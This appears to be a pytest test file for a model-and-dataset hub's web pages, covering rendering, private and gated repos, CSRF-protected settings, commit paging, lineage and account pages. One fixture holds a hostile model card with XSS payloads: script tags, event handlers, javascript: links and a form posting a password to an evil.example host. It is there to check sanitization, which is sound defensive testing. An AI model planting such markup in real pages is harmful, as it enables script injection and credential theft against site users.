"""The repo pages (/{org}/{name}, /datasets/{org}/{name}) and the account pages (/{name}), in both databases."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from fastapi.testclient import TestClient

from baton.core.runtime import Runtime
from baton.hub import commits, repos
from baton.web import repo_view

from .repo_support import (
    BROWSER,
    ENGLISH,
    add_report,
    add_run,
    browser,
    csrf_of,
    make_repo,
    model_card,
    text_of,
    weights,
)


@pytest.fixture
def world(runtime: Runtime, users: Any) -> dict[str, Any]:
    """lab/tiny (a model with a card, weights and a folder) and lab/corpus (a dataset)."""
    make_repo(runtime, "lab/base", {"model.safetensors": weights(1)})
    card = model_card("Tiny model", license="apache-2.0", base_model="lab/base", pipeline_tag="text-generation")
    make_repo(
        runtime,
        "lab/tiny",
        {
            "README.md": card,
            "config.json": b'{"model_type": "gpt2", "n_embd": 8}\n',
            "weights/model.safetensors": weights(2),
            "docs/notes.txt": "메모: 작은 모델\n".encode(),
        },
    )
    dataset_card = b"---\nlicense: cc-by-4.0\n---\n\n# Corpus\n\nSentences.\n"
    make_repo(
        runtime, "lab/corpus", {"README.md": dataset_card, "data/train.csv": b"text\nhello\n"}, repo_type="dataset"
    )
    return {}


def _get(client: TestClient, path: str, status: int = 200, **kwargs: Any) -> str:
    response = client.get(path, **kwargs)
    assert response.status_code == status, (path, response.status_code, response.text[:2000])
    assert response.headers["content-type"].startswith("text/html")
    return str(response.text)


# --------------------------------------------------------------------------------------------- sections


def test_each_section_of_a_model_renders(runtime: Runtime, world: Any) -> None:
    client = browser(runtime)
    page = _get(client, "/lab/tiny", headers=ENGLISH)
    assert 'id="repo-title"' in page and "Model card" in page
    assert re.search(r"<h3[^>]*>Tiny model</h3>", page), "the card's h1 is drawn below the page's headings"
    assert "apache-2.0" in page and "text-generation" in page  # front matter as metadata and tags
    assert 'aria-current="page" id="tab-card"' in page

    files = _get(client, "/lab/tiny/tree/main", headers=ENGLISH)
    assert "config.json" in files and "weights/" in files and "docs/" in files and "README.md" in files
    assert re.search(r"config\.json.*?\d+ B", files, re.S), "sizes are shown in human units"
    assert re.search(r"config\.json.*?<td>text</td>", files, re.S), "each file's scan result is shown"
    assert "/lab/tiny/resolve/main/config.json" in files, "each file links its download"
    folder = _get(client, "/lab/tiny/tree/main/weights", headers=ENGLISH)
    assert "model.safetensors" in folder and "config.json" not in folder
    assert re.search(r"model\.safetensors.*?<td>safetensors</td>", folder, re.S)
    assert _get(client, "/lab/tiny/tree/main/nothing-here", 404)
    assert 'id="branches"' in files and ">main<" in files

    blob = _get(client, "/lab/tiny/blob/main/docs/notes.txt", headers=ENGLISH)
    assert "메모: 작은 모델" in blob and 'id="blob-download"' in blob
    binary = _get(client, "/lab/tiny/blob/main/weights/model.safetensors", headers=ENGLISH)
    assert "This file is not text" in binary

    history = _get(client, "/lab/tiny/commits/main", headers=ENGLISH)
    assert "Add files" in history and "initial commit" in history
    lineage = _get(client, "/lab/tiny/lineage", headers=ENGLISH)
    assert "lab/base" in lineage and "<svg" in lineage
    evaluations = _get(client, "/lab/tiny/evaluations", headers=ENGLISH)
    assert 'id="no-runs"' in evaluations

    korean = _get(client, "/lab/tiny")
    assert '<html lang="ko">' in korean and "모델 카드" in korean and "파일" in korean


def test_each_section_of_a_dataset_renders(runtime: Runtime, world: Any) -> None:
    client = browser(runtime)
    page = _get(client, "/datasets/lab/corpus", headers=ENGLISH)
    assert "Dataset card" in page and "cc-by-4.0" in page and "Sentences." in page
    assert "load_dataset(&#34;lab/corpus&#34;)" in page or 'load_dataset("lab/corpus")' in page
    assert "--repo-type dataset" in page
    files = _get(client, "/datasets/lab/corpus/tree/main/data", headers=ENGLISH)
    assert "train.csv" in files and "/datasets/lab/corpus/resolve/main/data/train.csv" in files
    assert "hello" in _get(client, "/datasets/lab/corpus/blob/main/data/train.csv")
    assert "Add files" in _get(client, "/datasets/lab/corpus/commits/main")
    assert "<table" in _get(client, "/datasets/lab/corpus/lineage")
    # A dataset has no evaluations page; the model of the same name does not exist either.
    _get(client, "/datasets/lab/corpus/evaluations", 404)
    _get(client, "/lab/corpus", 404)


def test_snippets_name_this_server_and_the_copy_script_loads_from_the_site(runtime: Runtime, world: Any) -> None:
    client = browser(runtime)
    response = client.get("/lab/tiny", headers=ENGLISH)
    page = response.text
    assert "HF_ENDPOINT=http://testserver hf download lab/tiny" in page
    assert "from_pretrained(&#34;lab/tiny&#34;)" in page
    assert "HF_HUB_DISABLE_XET=1" in page
    assert 'data-copy="snippet-download"' in page
    script = re.search(r'<script src="([^"]+copy\.js[^"]*)"', page)
    assert script and script.group(1).startswith("/static/")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert "<script>" not in page, "no inline script: the CSP would block it"
    assert client.get(script.group(1).split("?")[0]).status_code == 200


def test_downloads_are_counted_on_the_page(runtime: Runtime, world: Any) -> None:
    client = browser(runtime)
    assert client.get("/lab/tiny/resolve/main/config.json", headers={"Accept": "*/*"}).status_code == 200
    page = _get(client, "/lab/tiny", headers=ENGLISH)
    assert re.search(r'id="downloads">\s*1 download<', page)


# --------------------------------------------------------------------------------------------- hostile cards


HOSTILE = b"""---
license: mit
---
# Hello

<script>alert('card')</script>
<img src="x.png" onerror="alert('img')">
<a href="javascript:alert('link')">click</a>
[md link](javascript:alert('md'))
<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="password"></form>
<div onclick="alert('div')" style="position:fixed">styled</div>
<object data="evil.swf"></object>
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">

[relative](docs/notes.txt) ![figure](images/plot.png) [escape](../../other/repo) [site](https://example.org/)
"""


def test_a_hostile_card_is_sanitized(runtime: Runtime, users: Any) -> None:
    make_repo(runtime, "lab/hostile", {"README.md": HOSTILE})
    page = _get(browser(runtime), "/lab/hostile")
    body = page.split('id="card-body"', 1)[1].split("</article>", 1)[0]
    lowered = body.lower()
    for forbidden in ("<script", "onerror", "onclick", "<iframe", "<style", "<form", "<input", "<object",
                      "style=", "data:image", "evil.example"):  # fmt: skip
        assert forbidden not in lowered, forbidden
    assert not re.search(r'=\s*"[^"]*javascript:', lowered), "no javascript: URL in any attribute"
    assert 'href="/lab/hostile/blob/main/docs/notes.txt"' in body, "relative links open the repo's file"
    assert 'src="/lab/hostile/resolve/main/images/plot.png"' in body, "relative images load from the repo"
    assert "other/repo" not in body, "a relative link never leaves the repo"
    assert 'href="https://example.org/"' in body and 'rel="nofollow noopener noreferrer"' in body


def test_a_huge_card_is_cut(runtime: Runtime, users: Any) -> None:
    huge = b"# Big\n\n" + b"word " * 60_000 + b"\n\nTHE-END-MARKER\n"
    make_repo(runtime, "lab/huge", {"README.md": huge})
    page = _get(browser(runtime), "/lab/huge", headers=ENGLISH)
    assert 'id="card-truncated"' in page and "THE-END-MARKER" not in page


# --------------------------------------------------------------------------------------------- private repos


def test_a_private_repo_is_the_same_404_as_a_missing_one(runtime: Runtime, users: Any) -> None:
    make_repo(runtime, "lab/secret", {"README.md": model_card("Secret")}, private=True)
    anonymous, carol, bob = browser(runtime), browser(runtime, "carol"), browser(runtime, "bob")
    for client in (anonymous, carol):
        for path in ("/lab/secret", "/lab/secret/tree/main", "/lab/secret/commits/main", "/lab/secret/lineage",
                     "/lab/secret/blob/main/README.md", "/lab/secret/evaluations", "/lab/secret/settings"):  # fmt: skip
            secret = client.get(path, headers=ENGLISH, follow_redirects=False)
            missing = client.get(path.replace("secret", "nothing"), headers=ENGLISH, follow_redirects=False)
            if client is anonymous and path.endswith("/settings"):
                assert secret.status_code == missing.status_code == 303  # sign in first, whatever the repo
                continue
            assert secret.status_code == missing.status_code == 404, path
            assert secret.text.replace("secret", "nothing") == missing.text, "nothing tells them apart"
    for client in (anonymous, carol):
        assert "lab/secret" not in _get(client, "/lab")
    member = _get(bob, "/lab/secret", headers=ENGLISH)
    assert 'id="badge-private"' in member and "Secret" in member
    assert "lab/secret" in _get(bob, "/lab")


# --------------------------------------------------------------------------------------------- gated repos


def test_gated_request_flow(runtime: Runtime, users: Any) -> None:
    api = {"Accept": "*/*"} | users.headers("carol")  # downloads with carol's token, as the hf client does
    fields = {"Affiliation": "text", "I agree to the terms": "checkbox"}
    card = model_card("Gated", extra_gated_prompt="Research use only.", extra_gated_fields=fields)
    make_repo(runtime, "lab/gated", {"README.md": card, "config.json": b"{}"}, gated="manual")

    anonymous = _get(browser(runtime), "/lab/gated", headers=ENGLISH)
    assert 'id="access-sign-in"' in anonymous and "/login?next=%2Flab%2Fgated" in anonymous
    assert 'id="card-restricted"' in anonymous, "the card's text follows the hub's file rule"

    carol = browser(runtime, "carol")
    page = _get(carol, "/lab/gated", headers=ENGLISH)
    assert 'id="access-form"' in page and "Research use only." in page
    assert '<label for="gated-field-0">Affiliation</label>' in page and 'type="checkbox" id="gated-field-1"' in page
    form = {"csrf": csrf_of(page), "gated-field-0": "Seoul National University", "gated-field-1": "yes"}
    # Without the CSRF value, or with another, the request is refused and nothing is recorded.
    for wrong in ({}, {"csrf": "0" * 32}):
        refused = carol.post("/lab/gated/ask-access", data={**form, "csrf": ""} | wrong, follow_redirects=False)
        assert refused.status_code == 403
    assert 'id="access-form"' in _get(carol, "/lab/gated")
    # A missing field is shown on the page.
    incomplete = carol.post("/lab/gated/ask-access", data={**form, "gated-field-1": ""}, follow_redirects=False)
    assert incomplete.status_code == 400 and 'id="access-error"' in incomplete.text
    sent = carol.post("/lab/gated/ask-access", data=form, follow_redirects=False)
    assert sent.status_code == 303
    pending = _get(carol, sent.headers["location"], headers=ENGLISH)
    assert 'data-status="pending"' in pending and 'id="access-form"' not in pending
    assert carol.get("/lab/gated/resolve/main/config.json", headers=api).status_code == 403

    alice = browser(runtime, "alice")
    settings = _get(alice, "/lab/gated/settings", headers=ENGLISH)
    assert 'data-user="carol"' in settings and "Seoul National University" in settings
    accepted = alice.post(
        "/lab/gated/settings/access",
        data={"csrf": csrf_of(settings), "user": "carol", "status": "accepted"},
        follow_redirects=False,
    )
    assert accepted.status_code == 303
    after = _get(alice, accepted.headers["location"], headers=ENGLISH)
    assert re.search(r'data-user="carol">.*?request-status">accepted<', after, re.S)

    granted = _get(carol, "/lab/gated", headers=ENGLISH)
    assert 'data-status="accepted"' in granted and 'id="card-body"' in granted
    assert carol.get("/lab/gated/resolve/main/config.json", headers=api).status_code == 200


def test_a_rejected_request_can_be_sent_again(runtime: Runtime, users: Any) -> None:
    make_repo(runtime, "lab/closed", {"README.md": model_card("Closed")}, gated="manual")
    with runtime.database.session(write=True) as session:
        from baton.accounts import service as accounts

        repos.decide_access(
            session, accounts.act_as(session, "alice"), repos.parse_repo_id("model", "lab/closed"), "carol", "rejected"
        )
    page = _get(browser(runtime, "carol"), "/lab/closed", headers=ENGLISH)
    assert 'data-status="rejected"' in page and 'id="access-form"' in page


# --------------------------------------------------------------------------------------------- settings


def test_settings_change_visibility_and_gating_with_csrf(runtime: Runtime, world: Any) -> None:
    alice = browser(runtime, "alice")
    settings = _get(alice, "/lab/tiny/settings", headers=ENGLISH)
    token = csrf_of(settings)
    for data in ({"visibility": "private"}, {"visibility": "private", "csrf": "f" * 32}):
        refused = alice.post("/lab/tiny/settings/visibility", data=data, follow_redirects=False)
        assert refused.status_code == 403 and refused.headers["x-error-code"] == "CsrfMismatch"
    assert not _get(browser(runtime), "/lab/tiny").count('id="badge-private"')

    done = alice.post(
        "/lab/tiny/settings/visibility", data={"visibility": "private", "csrf": token}, follow_redirects=False
    )
    assert done.status_code == 303 and done.headers["location"] == "/lab/tiny/settings?done=visibility"
    assert 'id="notice"' in _get(alice, done.headers["location"])
    _get(browser(runtime), "/lab/tiny", 404)  # now private
    assert 'id="badge-private"' in _get(alice, "/lab/tiny")

    gated = alice.post("/lab/tiny/settings/gating", data={"gated": "auto", "csrf": token}, follow_redirects=False)
    assert gated.status_code == 303
    with runtime.database.session() as session:
        repo = repos.find_repo(session, repos.parse_repo_id("model", "lab/tiny"))
        assert repo is not None and repo.private and repo.gated == "auto"
    wrong = alice.post("/lab/tiny/settings/gating", data={"gated": "sometimes", "csrf": token}, follow_redirects=False)
    assert wrong.status_code == 400 and 'id="settings-error"' in wrong.text
    off = alice.post("/lab/tiny/settings/gating", data={"gated": "off", "csrf": token}, follow_redirects=False)
    assert off.status_code == 303


def test_settings_are_for_admins_only(runtime: Runtime, world: Any) -> None:
    # bob may write to lab's repos but is no admin of lab: the hub's rule refuses him (403), as the API does.
    bob = browser(runtime, "bob")
    assert 'id="tab-settings"' not in _get(bob, "/lab/tiny")
    _get(bob, "/lab/tiny/settings", 403)
    token = csrf_of(_get(bob, "/lab/tiny"))  # bob's session's value (the header's sign-out form carries it)
    refused = bob.post(
        "/lab/tiny/settings/visibility", data={"visibility": "private", "csrf": token}, follow_redirects=False
    )
    assert refused.status_code == 403
    # Anonymous: asked to sign in, and a form posted without a sign-in does nothing.
    anonymous = browser(runtime)
    assert anonymous.get("/lab/tiny/settings", follow_redirects=False).status_code == 303
    posted = anonymous.post("/lab/tiny/settings/delete", data={"confirm": "lab/tiny"}, follow_redirects=False)
    assert posted.status_code == 303 and posted.headers["location"].startswith("/login")
    # A token without the admin scope cannot use the account's admin powers (the hub's scope rule).
    narrow = browser(runtime, "alice", scopes=("read",))
    _get(narrow, "/lab/tiny/settings", 403)
    assert 'id="tab-settings"' in _get(browser(runtime, "alice"), "/lab/tiny")


def test_deletion_needs_the_typed_name_and_csrf(runtime: Runtime, world: Any) -> None:
    alice = browser(runtime, "alice")
    token = csrf_of(_get(alice, "/datasets/lab/corpus/settings"))
    assert alice.post("/datasets/lab/corpus/settings/delete", data={"confirm": "lab/corpus"}).status_code == 403
    typo = alice.post(
        "/datasets/lab/corpus/settings/delete", data={"confirm": "lab/corpu", "csrf": token}, follow_redirects=False
    )
    assert typo.status_code == 400 and 'id="settings-error"' in typo.text
    _get(alice, "/datasets/lab/corpus")
    deleted = alice.post(
        "/datasets/lab/corpus/settings/delete", data={"confirm": "lab/corpus", "csrf": token}, follow_redirects=False
    )
    assert deleted.status_code == 303 and deleted.headers["location"] == "/lab"
    _get(alice, "/datasets/lab/corpus", 404)


# --------------------------------------------------------------------------------------------- commits


def test_commits_are_paged_with_bounded_queries(runtime: Runtime, users: Any) -> None:
    repo = make_repo(runtime, "lab/busy", {})
    with runtime.database.session(write=True) as session:
        from baton.accounts import service as accounts

        actor = accounts.act_as(session, "alice")
        busy = repos.find_repo(session, repos.parse_repo_id("model", "lab/busy"))
        assert busy is not None
        for number in range(1, 121):
            commits.commit_files(
                session,
                runtime.store,
                runtime.settings,
                actor,
                busy,
                {"n.txt": str(number).encode()},
                title=f"c{number}",
            )
    client = browser(runtime)
    seen: list[str] = []
    url: str | None = "/lab/busy/commits/main"
    pages = 0
    while url is not None:
        page = _get(client, url)
        titles = re.findall(r"<td>(c\d+|initial commit)</td>", page)
        assert 0 < len(titles) <= repo_view.COMMITS_PER_PAGE
        seen.extend(titles)
        older = re.search(r'href="([^"]+)" id="older-page"', page)
        url = older.group(1).replace("&amp;", "&") if older else None
        pages += 1
        if pages > 1:
            assert 'id="newest-page"' in page
    assert pages == 3
    assert seen == [f"c{n}" for n in range(120, 0, -1)] + ["initial commit"]
    assert repo.name == "busy"
    # A commit of another repo, or none at all, is no page.
    _get(client, "/lab/busy/commits/main?after=" + "0" * 40, 404)


def test_history_is_one_query_per_page(runtime: Runtime, users: Any) -> None:
    from sqlalchemy import event

    make_repo(runtime, "lab/long", {"a.txt": b"a"})
    with runtime.database.session() as session:
        repo = repos.find_repo(session, repos.parse_repo_id("model", "lab/long"))
        assert repo is not None
        head = commits.resolve_revision(session, repo, None)
        statements: list[str] = []
        listener = lambda *args: statements.append(str(args[2]))  # noqa: E731
        event.listen(runtime.database.engine, "before_cursor_execute", listener)
        try:
            found = commits.history(session, repo, head, 51)
        finally:
            event.remove(runtime.database.engine, "before_cursor_execute", listener)
        assert [commit.title for commit in found] == ["Add files", "initial commit"]
        assert len(statements) == 1 and "RECURSIVE" in statements[0].upper()


# --------------------------------------------------------------------------------------------- lineage


def test_lineage_svg_has_declared_and_verified_edges(runtime: Runtime, world: Any) -> None:
    make_repo(runtime, "lab/copycat", {"model.safetensors": weights(2)})
    make_repo(runtime, "lab/child", {"README.md": model_card("Child", base_model="lab/tiny")})
    make_repo(runtime, "lab/hidden-base", {"model.safetensors": weights(3)}, private=True)
    add_report(runtime, "lab/tiny", "lab/base", verdict="independent", p_value=0.61)  # declared, not confirmed
    add_report(runtime, "lab/tiny", "lab/hidden-base", verdict="derived", p_value=0.0001, relation="finetune")
    add_report(runtime, "lab/copycat", "lab/tiny", verdict="copied", p_value=1e-9)  # a verified derivative

    page = _get(browser(runtime), "/lab/tiny/lineage", headers=ENGLISH)
    svg = page.split("<svg", 1)[1].split("</svg>", 1)[0]
    assert 'class="edge edge-declared edge-base"' in svg and "lab/base" in svg
    assert "edge-verified edge-base verdict-independent" in svg
    assert "edge-verified edge-derivative verdict-copied" in svg and "lab/copycat" in svg
    assert "edge-declared edge-derivative" in svg and "lab/child" in svg
    table = text_of(page.split('id="lineage-table"', 1)[1])
    assert "declared, but the weights do not confirm it" in table
    assert "not declared: found by comparing the weights" in table
    # The private base is named to who may read it, and sealed for everyone else.
    assert "lab/hidden-base" not in page and "sealed name" in page
    member = _get(browser(runtime, "bob"), "/lab/tiny/lineage", headers=ENGLISH)
    assert "lab/hidden-base" in member


def test_lineage_says_which_commit_the_verdicts_were_computed_on_and_when_a_rescan_is_pending(
    runtime: Runtime, world: Any
) -> None:
    from baton.accounts import service as accounts
    from baton.provenance import follow
    from baton.provenance import service as provenance

    def commit(files: dict[str, bytes]) -> str:
        with runtime.database.session(write=True) as session:
            repo = repos.find_repo(session, repos.parse_repo_id("model", "lab/tiny"))
            assert repo is not None
            actor = accounts.act_as(session, "alice")
            return commits.commit_files(session, runtime.store, runtime.settings, actor, repo, files, title="c").oid

    add_report(runtime, "lab/tiny", "lab/base", verdict="derived", p_value=0.0001, relation="finetune")
    with runtime.database.session(write=True) as session:
        repo = repos.find_repo(session, repos.parse_repo_id("model", "lab/tiny"))
        assert repo is not None
        scanned = commits.resolve_revision(session, repo, None).oid
        follow.record_done(session, repo.id, scanned)
    # A card-only commit (a release, say): the verdicts still apply, computed on the earlier commit.
    release = commit({"README.md": model_card("Tiny model", license="apache-2.0", base_model="lab/base")})
    page = _get(browser(runtime), "/lab/tiny/lineage", headers=ENGLISH)
    follows = text_of(page.split('id="provenance-follow"', 1)[1].split("</p>", 1)[0])
    assert f"computed on commit {scanned[:12]}; the current head {release[:12]} has the same weights" in follows
    table = text_of(page.split('id="lineage-table"', 1)[1])
    assert f"on {scanned[:12]}" in table and "earlier weights" not in table
    # New weights and their scan queued: the page says the rescan is pending and marks the old verdicts.
    retrained = commit({"weights/model.safetensors": weights(7)})
    with runtime.database.session(write=True) as session:
        repo = repos.find_repo(session, repos.parse_repo_id("model", "lab/tiny"))
        assert repo is not None
        provenance.enqueue_scan(session, repo, retrained)
    page = _get(browser(runtime), "/lab/tiny/lineage", headers=ENGLISH)
    assert '<strong data-status="pending">rescan pending</strong>' in page
    follows = text_of(page.split('id="provenance-follow"', 1)[1].split("</p>", 1)[0])
    assert f"changed after commit {scanned[:12]}: a rescan is pending" in follows
    assert "earlier weights" in text_of(page.split('id="lineage-table"', 1)[1])
    korean = _get(browser(runtime), "/lab/tiny/lineage?lang=ko")
    assert "재분석을 기다리고 있습니다" in korean


# --------------------------------------------------------------------------------------------- evaluations


def test_evaluations_show_intervals(runtime: Runtime, world: Any) -> None:
    add_run(
        runtime,
        "lab/tiny",
        {"exact_match": {"value": 0.42, "stderr": 0.05, "ci95": [0.33, 0.52]}, "count": {"value": 100}},
    )
    page = _get(browser(runtime), "/lab/tiny/evaluations", headers=ENGLISH)
    assert "exact_match" in page and "0.42" in page and "0.33 – 0.52" in page
    plot = page.split('class="chart interval-plot"', 1)[1].split("</svg>", 1)[0]
    assert 'class="interval"' in plot and 'class="point"' in plot
    add_run(runtime, "lab/secret-model", {"exact_match": {"value": 1.0}})  # another model's run stays off the page
    assert page.count('class="card run"') == 1


# --------------------------------------------------------------------------------------------- accounts


def test_user_and_organization_pages(runtime: Runtime, world: Any) -> None:
    make_repo(runtime, "bob/mine", {"README.md": model_card("Mine")}, private=True)
    make_repo(runtime, "bob/open", {"a.txt": b"a"})
    anonymous = browser(runtime)
    lab = _get(anonymous, "/lab", headers=ENGLISH)
    assert 'id="account-title"' in lab and "Organization" in lab
    assert 'href="/lab/tiny"' in lab and 'href="/datasets/lab/corpus"' in lab
    members = lab.split('id="members"', 1)[1]
    assert "bob" in members and "@" not in members, "members: names only, no e-mail addresses"
    bob_page = _get(anonymous, "/bob", headers=ENGLISH)
    assert "bob/open" in bob_page and "bob/mine" not in bob_page
    assert "bob/mine" not in _get(browser(runtime, "carol"), "/bob")
    assert "bob/mine" in _get(browser(runtime, "bob"), "/bob")
    _get(anonymous, "/nobody-here", 404)


def test_catch_all_routes_never_shadow_the_site(runtime: Runtime, world: Any) -> None:
    client = browser(runtime)
    assert 'id="token"' in _get(client, "/login")
    logout = client.get("/logout", follow_redirects=False)  # signed out: nothing to confirm, back home
    assert logout.status_code == 303 and logout.headers["location"] == "/"
    assert 'id="settings-title"' not in _get(client, "/settings/account")  # asks to sign in instead
    assert client.get("/api/models/lab/tiny").json()["id"] == "lab/tiny"
    assert client.get("/static/baton.css").status_code == 200
    assert client.get("/lab/tiny/resolve/main/config.json", headers={"Accept": "*/*"}).status_code == 200
    # Reserved top-level words are never an account or a namespace.
    for path in ("/settings", "/api", "/spaces", "/Commons/x"):
        response = client.get(path)
        assert response.status_code in (404, 405), path
        assert 'id="account-title"' not in response.text and 'id="repo-title"' not in response.text
    # /models and /datasets are the listings, never an account either
    for path in ("/models", "/datasets"):
        page = _get(client, path)
        assert 'id="listing-title"' in page and 'id="account-title"' not in page


def test_sealed_team_targets_stay_sealed_on_the_organization_page(runtime: Runtime) -> None:
    from challenge.ce_support import make_world

    challenge = make_world(runtime)
    with runtime.database.session(write=True) as session:
        from sqlalchemy import select

        from baton.challenge.models import Team

        team = session.scalar(select(Team).where(Team.slug == "team-a"))
        assert team is not None
        organization = team.organizations[0]
        targets = list(team.target_models)
    page = _get(browser(runtime), f"/{organization}", headers=ENGLISH)
    teams = page.split('id="teams"', 1)[1]
    assert 'data-team="team-a"' in teams and "active" in teams
    assert challenge.slug
    for target in targets:
        name = target.split("@")[0]
        with runtime.database.session() as session:
            repo = repos.find_repo(session, repos.parse_repo_id("model", name))
            private = repo is not None and repo.private
        assert (name in teams) == (not private), target


def test_json_clients_are_untouched(runtime: Runtime, world: Any) -> None:
    client = browser(runtime)
    response = client.get("/lab/nothing", headers={"Accept": "*/*"})
    assert response.status_code == 404 and response.json()["error"] == "RepoNotFound"
    assert json.loads(client.get("/api/models/lab/tiny/tree/main", headers={"Accept": "*/*"}).text)
    assert BROWSER["Accept"].startswith("text/html")


# --------------------------------------------------------------------------------------------- bounds


def test_listings_are_bounded(runtime: Runtime, world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from baton.accounts import service as accounts
    from baton.hub.models import LineageEdge

    with runtime.database.session(write=True) as session:
        actor = accounts.act_as(session, "alice")
        for number in range(repo_view.MAX_EDGES + 5):
            child, _ = repos.create_repo(
                session, actor, repos.RepoKey("model", "lab", f"child-{number:03d}"), private=False
            )
            session.add(LineageEdge(child_repo_id=child.id, base="lab/tiny", relation="finetune"))
    page = _get(browser(runtime), "/lab/tiny/lineage", headers=ENGLISH)
    table = page.split('id="lineage-table"', 1)[1]
    assert table.count('data-direction="derivative"') == repo_view.MAX_EDGES

    monkeypatch.setattr(repo_view, "MAX_TREE_ITEMS_SHOWN", 2)
    files = _get(browser(runtime), "/lab/tiny/tree/main", headers=ENGLISH)
    assert files.count('<tr class="f') == 2 and 'id="tree-truncated"' in files
